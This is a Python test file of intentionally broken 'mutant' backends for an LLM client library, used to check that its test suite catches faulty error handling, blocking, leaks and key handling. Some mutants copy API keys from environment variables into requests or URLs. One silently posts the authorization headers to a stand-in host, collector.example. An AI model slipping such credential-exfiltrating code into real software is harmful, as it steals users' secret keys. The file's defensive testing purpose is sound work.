"""Backends that are wrong when something goes wrong, and in what they do beside their work."""

from __future__ import annotations

import asyncio
import json
import logging
import os
import threading
import time
import urllib.request
import warnings
from collections.abc import AsyncIterator, Callable
from contextlib import suppress
from typing import Any, ClassVar

import aiohttp

from cloudllm import (
    CloudLLMError,
    ProviderError,
    RateLimited,
    ReasoningDelta,
    Request,
    RequestRejected,
    StreamEnded,
    StreamEvent,
    TextDelta,
    Usage,
)
from tests.core.testing.mutants import backend
from tests.core.testing.mutants_text import Rewrites
from tests.core.testing.specimens import HttpBackend


class Errs(HttpBackend):
    """Raises another error than it should."""

    status: ClassVar[int]
    instead: ClassVar[Callable[[str], Exception]]

    def error(self, status: int, text: str, wait: str | None) -> CloudLLMError:
        if status == self.status and "context_length" not in text:
            return type(self).instead(text)  # type: ignore[return-value]
        return super().error(status, text, wait)


def _errs(status: int, instead: Callable[[str], Exception]) -> type[HttpBackend]:
    return type(f"Errs{status}", (Errs,), {"status": status, "instead": staticmethod(instead)})


for _status, _instead in {
    400: ProviderError,
    401: RequestRejected,
    403: RuntimeError,
    404: RequestRejected,
    429: ProviderError,
    500: RequestRejected,
    503: RateLimited,
}.items():
    backend(f"error-{_status}")(_errs(_status, _instead))


@backend("error-429")
class ForgetsToWait(HttpBackend):
    def error(self, status: int, text: str, wait: str | None) -> CloudLLMError:
        return super().error(status, text, None)


@backend("error-context")
class NoContext(HttpBackend):
    def error(self, status: int, text: str, wait: str | None) -> CloudLLMError:
        return super().error(status, text.replace("context_length", ""), wait)


@backend("error-html")
class TakesPages(HttpBackend):
    async def check(self, response: aiohttp.ClientResponse) -> None:
        if response.content_type == "text/html" and response.status == 200:
            return
        await super().check(response)

    def end(self, reason: str | None, usage: Usage | None) -> list[StreamEvent]:
        return [StreamEnded(reason, usage)]

    async def answer(
        self, session: aiohttp.ClientSession, request: Request
    ) -> AsyncIterator[StreamEvent]:
        async with session.post(
            self.url, json=self.body(request), headers=self.headers(), allow_redirects=False
        ) as response:
            await self.check(response)
            if response.content_type == "text/html":
                yield TextDelta(await response.text())
                yield StreamEnded("stop")
                return
            ended: str | None = None
            usage: Usage | None = None
            async for chunk in self.chunks(response):
                for choice in chunk.get("choices", ()):
                    for event in self.deltas(choice["delta"]):
                        yield event
                    ended = choice.get("finish_reason") or ended
                usage = self.usage(chunk) or usage
            yield StreamEnded(ended, usage)


@backend("error-garbage")
class RaisesJson(HttpBackend):
    def parsed(self, data: bytes) -> Any:
        return super().parsed(data) if data.endswith(b"}") else json.loads(data)


@backend("error-refused")
class RaisesItsOwn(HttpBackend):
    async def stream(self, request: Request) -> AsyncIterator[StreamEvent]:
        try:
            async for event in super().stream(request):
                yield event
        except CloudLLMError as error:
            if isinstance(error.__cause__, aiohttp.ClientConnectorError):
                raise OSError("no") from None
            raise


@backend("cancel")
class GoesOnAlone(HttpBackend):
    """Leaves the work to a task that nobody stops."""

    async def stream(self, request: Request) -> AsyncIterator[StreamEvent]:
        queue: asyncio.Queue[StreamEvent | Exception] = asyncio.Queue()

        async def work() -> None:
            try:
                async for event in HttpBackend.stream(self, request):
                    await queue.put(event)
            except Exception as error:  # noqa: BLE001 - passed on
                await queue.put(error)

        TASKS.add(asyncio.ensure_future(work()))
        while True:
            event = await queue.get()
            if isinstance(event, Exception):
                raise event
            yield event
            if isinstance(event, StreamEnded):
                return


TASKS: set[Any] = set()


@backend("cancel")
class SwallowsCancel(HttpBackend):
    async def stream(self, request: Request) -> AsyncIterator[StreamEvent]:
        try:
            async for event in super().stream(request):
                yield event
        except asyncio.CancelledError:
            yield StreamEnded("stop")


@backend("deadlines")
class StaysAlive(HttpBackend):
    """Says that it thinks, as long as nothing comes."""

    async def stream(self, request: Request) -> AsyncIterator[StreamEvent]:
        events = super().stream(request)
        waiting: asyncio.Task[Any] | None = None
        try:
            while True:
                waiting = waiting or asyncio.ensure_future(anext(events, None))
                done, _ = await asyncio.wait({waiting}, timeout=0.04)
                if not done:
                    yield ReasoningDelta("…")
                    continue
                event, waiting = waiting.result(), None
                if event is None:
                    return
                yield event
        finally:
            if waiting is not None:
                waiting.cancel()
                await asyncio.wait({waiting})


@backend("does-not-block")
class Naps(Rewrites):
    def texts(self, text: str) -> list[str]:
        time.sleep(0.001)
        return [text]


@backend("does-not-block")
class Waits(HttpBackend):
    """urllib, on the loop."""

    async def stream(self, request: Request) -> AsyncIterator[StreamEvent]:
        asked = urllib.request.Request(self.url, json.dumps(self.body(request)).encode())
        with urllib.request.urlopen(asked) as response:  # noqa: ASYNC210 - which is wrong
            for line in response:
                if line.startswith(b"data: {"):
                    chunk = json.loads(line[6:])
                    for choice in chunk["choices"]:
                        if choice["delta"].get("content"):
                            yield TextDelta(choice["delta"]["content"])
        yield StreamEnded("stop")


@backend("does-not-block")
class Spins(HttpBackend):
    async def check(self, response: aiohttp.ClientResponse) -> None:
        end = time.thread_time() + 0.4
        while time.thread_time() < end:
            pass
        await super().check(response)


@backend("retry-none")
class Retries(HttpBackend):
    async def stream(self, request: Request) -> AsyncIterator[StreamEvent]:
        for last in (False, True):
            try:
                async for event in super().stream(request):
                    yield event
            except CloudLLMError as error:
                if last or getattr(error, "status", 0) != 500:
                    raise
            else:
                return


@backend("retry-none")
class LooksFirst(HttpBackend):
    async def answer(
        self, session: aiohttp.ClientSession, request: Request
    ) -> AsyncIterator[StreamEvent]:
        async with session.get(f"{self.base}/models"):
            pass
        async for event in super().answer(session, request):
            yield event


@backend("repeat")
class Remembers(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        known: list[Any] = self.__dict__.setdefault("known", [])
        known.append(request.messages[-1])
        body = super().body(request)
        body["messages"] = [
            *({"role": "user", "content": m.content} for m in known[:-1]),
            *body["messages"],
        ]
        return body


@backend("sessions-at-once")
class OneAtATime(HttpBackend):
    async def stream(self, request: Request) -> AsyncIterator[StreamEvent]:
        loop = asyncio.get_running_loop()
        locks: dict[Any, asyncio.Lock] = self.__dict__.setdefault("locks", {})
        async with locks.setdefault(loop, asyncio.Lock()):
            async for event in super().stream(request):
                yield event


@backend("sessions-at-once")
class SharesItsBuffer(HttpBackend):
    def deltas(self, delta: dict[str, str]) -> list[StreamEvent]:
        if delta.get("content"):
            self.latest = delta["content"]
        return super().deltas(delta)

    async def answer(
        self, session: aiohttp.ClientSession, request: Request
    ) -> AsyncIterator[StreamEvent]:
        async for event in super().answer(session, request):
            if isinstance(event, TextDelta):
                await asyncio.sleep(0)
                yield TextDelta(self.latest)
            else:
                yield event


@backend("no-leaks")
class KeepsAll(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        KEPT.append(request)
        return super().body(request)


KEPT: list[Any] = []


@backend("no-leaks")
class LeavesTasks(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        TASKS.add(asyncio.ensure_future(asyncio.sleep(30)))
        return super().body(request)


@backend("no-leaks")
class LeavesThreads(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        threading.Thread(target=threading.Event().wait, args=(5,), daemon=True).start()
        return super().body(request)


@backend("request-untouched")
class Changes(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        request.params["seen"] = True  # type: ignore[index]
        body = super().body(request)
        del body["seen"]
        return body


@backend("redirects-refused")
class Follows(HttpBackend):
    async def answer(
        self, session: aiohttp.ClientSession, request: Request
    ) -> AsyncIterator[StreamEvent]:
        async with session.post(self.url, json=self.body(request), headers=self.headers()) as found:
            await self.check(found)
            ended, usage = None, None
            async for chunk in self.chunks(found):
                for choice in chunk.get("choices", ()):
                    for event in self.deltas(choice["delta"]):
                        yield event
                    ended = choice.get("finish_reason") or ended
                usage = self.usage(chunk) or usage
            yield StreamEnded(ended, usage)


@backend("key-only-to-its-host")
class Collector(HttpBackend):
    def headers(self) -> dict[str, str]:
        return {**super().headers(), "X-Other": os.environ.get("OPENAI_API_KEY", "")}


@backend("key-only-to-its-host")
class CollectorInBody(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        return {**super().body(request), "user": os.environ.get("ANTHROPIC_API_KEY", "")}


@backend("key-never-shown")
class KeyInAddress(HttpBackend):
    @property
    def url(self) -> str:
        return f"{super().url}?key={self.secret}"


@backend("key-never-shown")
class KeyInError(HttpBackend):
    @property
    def secret(self) -> str:
        return "no key"


@backend("key-never-shown")
class KeyInRepr(HttpBackend):
    def __repr__(self) -> str:
        return f"KeyInRepr({self.secret})"


@backend("honours-key")
class WrongKey(HttpBackend):
    def headers(self) -> dict[str, str]:
        return {"Authorization": "Bearer test"}


@backend("honours-model")
class LowerCaseRequest(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        body = super().body(request)
        return {**body, "model": body["model"].lower()}


@backend("honours-api-base")
class OwnPlace(HttpBackend):
    @property
    def url(self) -> str:
        return "https://api.acme.example/v1/chat/completions"


@backend("answers")
class WrongPath(HttpBackend):
    @property
    def url(self) -> str:
        return f"{self.base}/chat/completion"


@backend("no-output")
class Prints(Rewrites):
    def texts(self, text: str) -> list[str]:
        print(text, end="")
        return [text]


@backend("no-output")
class PrintsByDescriptor(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        os.write(2, b"sending\n")
        return super().body(request)


@backend("no-output")
class Logs(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        logging.getLogger("acme").warning("sending")
        return super().body(request)


@backend("no-output")
class LogsWithHandler(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        logging.basicConfig(level=logging.INFO)
        logging.getLogger("acme").info("sending")
        return super().body(request)


@backend("no-output")
class Warns(HttpBackend):
    def body(self, request: Request) -> dict[str, Any]:
        with warnings.catch_warnings():
            warnings.simplefilter("always")
            warnings.warn("sending", stacklevel=1)
        return super().body(request)


@backend("key-only-to-its-host")
class SendsElsewhere(HttpBackend):
    async def answer(
        self, session: aiohttp.ClientSession, request: Request
    ) -> AsyncIterator[StreamEvent]:
        with suppress(aiohttp.ClientError):
            async with session.post("https://collector.example/keys", headers=self.headers()):
                pass
        async for event in super().answer(session, request):
            yield event
